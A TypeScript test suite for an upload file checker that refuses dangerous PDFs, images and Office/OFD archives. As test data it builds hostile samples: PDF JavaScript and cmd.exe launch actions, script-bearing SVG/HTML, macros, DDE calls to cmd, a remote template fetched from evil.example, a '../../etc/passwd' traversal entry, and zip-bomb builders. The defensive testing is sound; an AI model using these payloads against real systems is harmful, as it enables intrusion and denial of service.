import { deflateRawSync } from 'node:zlib'
import { zipSync } from 'fflate'
import { describe, expect, test } from 'vitest'
import { docxOf, jpegOf, ofdOf, packedObjects, pdfOf, plainPdf, pngOf, xlsxOf, zipOf } from '../../test/sample-files.ts'
import { checkFile } from './check/check.ts'
import { readZip } from './check/zip.ts'
import { inspectFile } from './inspect.ts'
import { FileRefusal } from './refusal.ts'
import { fileLimit } from './types.ts'

const refused = (bytes: Buffer, name: string, sentence: RegExp): void => {
  expect(() => checkFile(bytes, name)).toThrow(FileRefusal)
  expect(() => checkFile(bytes, name)).toThrow(sentence)
}

describe('what is taken in', () => {
  test('each kind is known by its bytes', () => {
    const files: [Buffer, string, string][] = [
      [plainPdf(), '合同.pdf', 'pdf'],
      [pdfOf(['<< /Type /Catalog /Outlines << /First 2 0 R >> >>', packedObjects('<< /Type /Page /A << /S /URI /URI (https://example.cn) >> >>')]), 'a.PDF', 'pdf'],
      [jpegOf(3000, 2000, 'Exif'), '身份证.jpg', 'jpeg'],
      [jpegOf(10, 10), '身份证.JPEG', 'jpeg'],
      [pngOf(8, 8), '截图.png', 'png'],
      [docxOf({ 'word/_rels/document.xml.rels': '<Relationship Type="http://x/hyperlink" Target="https://example.cn" TargetMode="External"/>' }), '合同.docx', 'docx'],
      [xlsxOf({ 'xl/printerSettings/printerSettings1.bin': new Uint8Array([1, 2]) }), '名单.xlsx', 'xlsx'],
      [ofdOf(), '批文.ofd', 'ofd'],
    ]
    for (const [bytes, name, type] of files) expect([name, checkFile(bytes, name)]).toEqual([name, type])
  })

  // clause: ASVS 5.2.2
  test('a name that says otherwise than the bytes is refused', () => {
    refused(plainPdf(), '身份证.jpg', /文件内容是 PDF，扩展名却是“jpg”/)
    refused(pngOf(8, 8), '身份证', /扩展名却是“没有”/)
    refused(docxOf(), '合同.xlsx', /文件内容是 Word/)
  })

  // clause: ASVS 5.2.1; ASVS 1.3.4
  test('empty, too large, and kinds that are no papers are refused with what to do instead', () => {
    refused(Buffer.alloc(0), 'a.pdf', /文件是空的/)
    refused(Buffer.concat([plainPdf(), Buffer.alloc(fileLimit)]), 'a.pdf', /不能超过 20 MB/)
    refused(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'a.svg', /网页和 SVG/)
    refused(Buffer.from('\ufeff  <!DOCTYPE html><script>alert(1)</script>'), 'a.pdf', /网页和 SVG/)
    refused(Buffer.from('<x/>'), 'a.png', /网页和 SVG/)
    refused(Buffer.from('MZ\u0090\u0000'), '合同.pdf', /这是程序/)
    refused(Buffer.from('#!/bin/sh\nrm'), '合同.pdf', /这是程序/)
    refused(Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), '合同.doc', /旧版 Office/)
    refused(Buffer.from('\u0000\u0000\u0000\u0018ftypheic'), '照片.heic', /HEIC/)
    refused(Buffer.from('只是文字'), '说明.txt', /可以上传 PDF/)
  })
})

describe('a PDF', () => {
  const catalog = (more: string) => pdfOf([`<< /Type /Catalog ${more} >>`])

  // clause: GB/T 22239 8.1.4.5
  test('that acts is refused: script, programs, sending, attachments, dynamic content', () => {
    refused(catalog('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'), 'a.pdf', /脚本/)
    refused(catalog('/OpenAction << /S /Rendition /JS (x) >>'), 'a.pdf', /脚本/)
    refused(catalog('/OpenAction << /S /Launch /F (cmd.exe) >>'), 'a.pdf', /启动其他程序/)
    refused(catalog('/AA << /O << /S /SubmitForm >> >>'), 'a.pdf', /向外发送/)
    refused(catalog('/Names << /EmbeddedFiles << >> >>'), 'a.pdf', /附件/)
    refused(catalog('/AcroForm << /XFA 5 0 R >>'), 'a.pdf', /动态内容/)
  })

  test('hides nothing by escapes or in packed objects', () => {
    refused(catalog('/OpenAction << /S /J#61va#53cript /JS (1) >>'), 'a.pdf', /脚本/)
    refused(pdfOf(['<< /Type /Catalog >>', packedObjects('<< /S /Launch /F (cmd.exe) >>')]), 'a.pdf', /启动其他程序/)
    refused(pdfOf(['<< /Type /Catalog >>', packedObjects('<< /S /JavaScript >>', '/N 1 /First 4 /Filter [ /FlateDecode ]')]), 'a.pdf', /脚本/)
    refused(pdfOf(['<< >>', packedObjects('<< >>', '/Type /Obj#53tm /N 1 /First 4 /Filter [ /ASCIIHexDecode /FlateDecode ]')]), 'a.pdf', /压缩方式无法检查/)
    refused(pdfOf(['<< >>', '<< /Type /ObjStm /First 4 /Filter /FlateDecode >>\nstream\nnot zlib\nendstream']), 'a.pdf', /已损坏/)
  })

  test('that is encrypted, broken off, or two things at once is refused', () => {
    refused(Buffer.from(plainPdf().toString('latin1').replace('/Root 1 0 R', '/Root 1 0 R /Encrypt 9 0 R'), 'latin1'), 'a.pdf', /密码或权限限制/)
    refused(plainPdf().subarray(0, 100), 'a.pdf', /没有传完/)
    refused(Buffer.from('%PDF-banana'), 'a.pdf', /不是完整的 PDF/)
    refused(Buffer.concat([plainPdf(), Buffer.from('<script>')]), 'a.pdf', /附带了别的内容/)
    refused(Buffer.concat([plainPdf(), docxOf()]), 'a.pdf', /附带了别的内容/)
    refused(Buffer.concat([Buffer.from('GIF89a'), plainPdf()]), 'a.pdf', /前面带有别的内容/)
  })

  test('that unfolds beyond measure stops at the limit', () => {
    const bomb = pdfOf(['<< >>', packedObjects(' '.repeat(101 * 1024 * 1024))])
    expect(() => checkFile(bomb, 'a.pdf')).toThrow(/展开后过大/)
  })
})

describe('a picture', () => {
  test('that is broken, too large to open, or carries something else is refused', () => {
    refused(jpegOf(10, 10).subarray(0, 12), 'a.jpg', /没有传完/)
    refused(jpegOf(60_000, 60_000), 'a.jpg', /尺寸过大（60000×60000）/)
    refused(jpegOf(10, 10, '<script>alert(1)</script>'), 'a.jpg', /夹带了别的内容/)
    refused(jpegOf(10, 10, '%PDF-1.7 '), 'a.jpg', /夹带了别的内容/)
    refused(Buffer.concat([jpegOf(10, 10), zipOf({ 'a.txt': 'x' })]), 'a.jpg', /夹带了别的内容/)
    refused(pngOf(50_000, 50_000), 'a.png', /尺寸过大/)
    refused(Buffer.concat([pngOf(8, 8), Buffer.from('more')]), 'a.png', /附带了别的内容/)
    const changed = Buffer.from(pngOf(8, 8))
    changed[45] = (changed[45] ?? 0) ^ 1
    refused(changed, 'a.png', /已损坏/)
  })
})

/** An archive of one part that is packed already: its entry is stored, then called deflated. */
const packedZip = (name: string, packed: Buffer): Buffer => {
  const zip = Buffer.from(zipSync({ [name]: packed }, { level: 0 }))
  zip.writeUInt16LE(8, 8)
  zip.writeUInt16LE(8, zip.readUInt32LE(zip.length - 22 + 16) + 10)
  return zip
}

/** An archive whose entry b lies within the body of its entry a: one kernel of bytes that a bomb unfolds as often as it likes. */
const overlapping = (): Buffer => {
  const stored = (parts: Record<string, Uint8Array>): Buffer => Buffer.from(zipSync(parts, { level: 0 }))
  const directoryAt = (zip: Buffer): number => zip.readUInt32LE(zip.length - 22 + 16)
  const inner = stored({ b: Buffer.from('same') })
  const body = inner.subarray(0, directoryAt(inner))
  const whole = stored({ a: body, b: Buffer.from('same') })
  const [secondAt, directory] = [31 + body.length, directoryAt(whole)]
  const cut = Buffer.concat([whole.subarray(0, secondAt), whole.subarray(directory)])
  cut.writeUInt32LE(secondAt, cut.length - 22 + 16)
  cut.writeUInt32LE(31, cut.indexOf(Buffer.from('PK\u0001\u0002', 'latin1'), secondAt + 4) + 42)
  return cut
}

describe('an archive of XML', () => {
  test('with macros, programs, objects, fields that act, or parts fetched from elsewhere is refused', () => {
    refused(docxOf({ 'word/vbaProject.bin': 'x' }), 'a.docx', /含有宏/)
    refused(docxOf({ '[Content_Types].xml': '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>' }), 'a.docx', /含有宏/)
    refused(xlsxOf({ 'xl/macrosheets/sheet1.xml': '<x/>' }), 'a.xlsx', /含有宏/)
    refused(docxOf({ 'word/embeddings/oleObject1.bin': 'x' }), 'a.docx', /内嵌了其他文件/)
    refused(ofdOf({ 'Doc_0/Attachs/run.js': 'x' }), 'a.ofd', /内嵌了其他文件/)
    refused(docxOf({ 'word/_rels/settings.xml.rels': '<Relationship Id="a" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>' }), 'a.docx', /从外部读取/)
    refused(docxOf({ 'word/header1.xml': '<w:instrText>DDE</w:instrText><w:instrText>AUTO cmd</w:instrText>' }), 'a.docx', /调用其他程序/)
    refused(xlsxOf({ 'xl/externalLinks/externalLink1.xml': '<ddeLink ddeService="cmd"/>' }), 'a.xlsx', /调用其他程序/)
    refused(docxOf({ 'word/a.xml': '<!DOCTYPE x [<!ENTITY a "b">]><x/>' }), 'a.docx', /不允许的声明/)
    refused(docxOf({ 'word/a.xml': Buffer.from('\ufeff<x/>', 'utf16le') }), 'a.docx', /编码不正常/)
  })

  test('that is another archive, two kinds at once, or has something before, between or behind is refused', () => {
    refused(zipOf({ '身份证.jpg': 'x' }), '材料.zip', /这是压缩包/)
    refused(docxOf({ 'OFD.xml': '<x/>' }), 'a.docx', /这是压缩包/)
    refused(Buffer.concat([docxOf(), Buffer.from('more')]), 'a.docx', /附带了别的内容/)
    // A second archive behind, whose directory points into itself: the first one lies hidden before it.
    refused(Buffer.concat([docxOf({ 'word/vbaProject.bin': 'x' }), docxOf()]), 'a.docx', /已损坏|夹带/)
    refused(docxOf({ '../../etc/passwd': 'x' }), 'a.docx', /路径不正常/)
    refused(docxOf({ 'WORD/document.xml': 'x' }), 'a.docx', /重名/)
  })

  // clause: ASVS 5.2.3
  test('that is a bomb stops at the limit, by size and by number of parts', () => {
    const bomb = packedZip('word/document.xml', deflateRawSync(Buffer.alloc(201 * 1024 * 1024)))
    expect(bomb.length).toBeLessThan(fileLimit)
    expect(() => checkFile(bomb, 'a.docx')).toThrow(/展开后过大/)
    expect(() => readZip(zipOf({ a: 'x', b: 'x', c: 'x' }), { parts: 2, unfolded: 1000 })).toThrow(/部件过多/)
    expect(() => readZip(overlapping())).toThrow(/夹带或重叠/)
  })
})

describe('the thread that looks', () => {
  test('answers with the type, or with the sentence', async () => {
    await expect(inspectFile(plainPdf(), '合同.pdf')).resolves.toBe('pdf')
    await expect(inspectFile(plainPdf(), '合同.png')).rejects.toThrow(/扩展名/)
    await expect(inspectFile(Buffer.alloc(fileLimit + 1), 'a.pdf')).rejects.toThrow(/不能超过/)
  })

  // clause: ASVS 15.2.2
  test('is ended when a file takes too long, and the next file is looked at as before', async () => {
    await expect(inspectFile(plainPdf(), '合同.pdf', { milliseconds: 1 })).rejects.toThrow(/用时过长/)
    await expect(Promise.all(Array.from({ length: 5 }, () => inspectFile(plainPdf(), '合同.pdf')))).resolves.toHaveLength(5)
  })
})
